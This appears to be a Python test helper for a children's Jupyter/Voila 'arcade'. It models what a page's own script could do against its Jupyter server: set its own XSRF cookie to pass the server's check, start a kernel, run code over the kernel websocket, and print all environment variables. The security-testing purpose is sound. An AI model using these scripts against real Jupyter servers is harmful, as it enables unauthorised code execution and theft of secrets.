"""What a child could try from a page of their own Jupyter server (a hub's or Binder's), done as a
page's own script would: same origin, the page's cookies, the server's XSRF cookie.

``server_request(page, method, path)`` sends one request to the page's own Jupyter server and
returns its status; ``run_in_kernel(page, code)`` starts a kernel through the server's REST API,
runs ``code`` over the kernel's websocket (an execute_request, as the issue found on the arcade's
own kernel) and returns what it printed.
"""
from __future__ import annotations

# The page's server: the part of the page's path before /voila/ ("" on Binder, /user/<name> on a hub).
_BASE = "const base = location.pathname.split('/voila/')[0];"
# The server's XSRF check compares a cookie with a header: a page's script that finds no such cookie
# sets one of its own (the check guards against other sites, not against the page itself).
_XSRF = ("let xsrf = decodeURIComponent((document.cookie.split('; ').find(c => c.startsWith('_xsrf=')) || '_xsrf=')"
         ".slice(6));"
         "if (!xsrf) { xsrf = 'hilltop' + Date.now(); document.cookie = '_xsrf=' + xsrf + '; path=/'; }")

SERVER_REQUEST_JS = "async ([method, path]) => {" + _BASE + _XSRF + """
  const r = await fetch(base + path, {method, headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'},
                                      body: method === 'GET' ? undefined : '{}'});
  return [r.status, await r.text()];
}"""

RUN_IN_KERNEL_JS = "async (code) => {" + _BASE + _XSRF + """
  const made = await fetch(base + '/api/kernels', {method: 'POST', body: '{}',
      headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'}});
  if (made.status !== 201) return {error: 'no kernel: ' + made.status + ' ' + await made.text()};
  const kernel = await made.json();
  const scheme = location.protocol === 'https:' ? 'wss://' : 'ws://';
  const ws = new WebSocket(scheme + location.host + base + '/api/kernels/' + kernel.id + '/channels?_xsrf='
                           + encodeURIComponent(xsrf));
  const id = 'hilltop-' + Math.random();
  const out = [];
  const finished = new Promise((resolve, reject) => {
    ws.onerror = () => reject(new Error('the kernel websocket failed'));
    ws.onmessage = (event) => {
      const msg = JSON.parse(event.data);
      if (!msg.parent_header || msg.parent_header.msg_id !== id) return;
      if (msg.msg_type === 'stream') out.push(msg.content.text);
      if (msg.msg_type === 'error') out.push(msg.content.ename + ': ' + msg.content.evalue);
      if (msg.msg_type === 'status' && msg.content.execution_state === 'idle') resolve();
    };
  });
  await new Promise((resolve, reject) => { ws.onopen = resolve; ws.onerror = () => reject(new Error('no websocket')); });
  ws.send(JSON.stringify({header: {msg_id: id, username: '', session: 'hilltop-attack', msg_type: 'execute_request',
                                   version: '5.3', date: new Date().toISOString()},
                          parent_header: {}, metadata: {}, channel: 'shell', buffers: [],
                          content: {code, silent: false, store_history: false, user_expressions: {},
                                    allow_stdin: false, stop_on_error: true}}));
  await Promise.race([finished, new Promise((_, reject) => setTimeout(
      () => reject(new Error('the kernel did not answer within 60 s')), 60000))]);
  ws.close();
  await fetch(base + '/api/kernels/' + kernel.id, {method: 'DELETE', headers: {'X-XSRFToken': xsrf}});
  return {output: out.join('')};
}"""


def server_request(page, method: str, path: str) -> tuple[int, str]:
    status, text = page.evaluate(SERVER_REQUEST_JS, [method, path])
    return int(status), str(text)


def run_in_kernel(page, code: str) -> str:
    answer = page.evaluate(RUN_IN_KERNEL_JS, code)
    assert "error" not in answer, answer["error"]
    return str(answer["output"])


ENVIRONMENT = "import json, os; print(json.dumps(dict(os.environ)))"
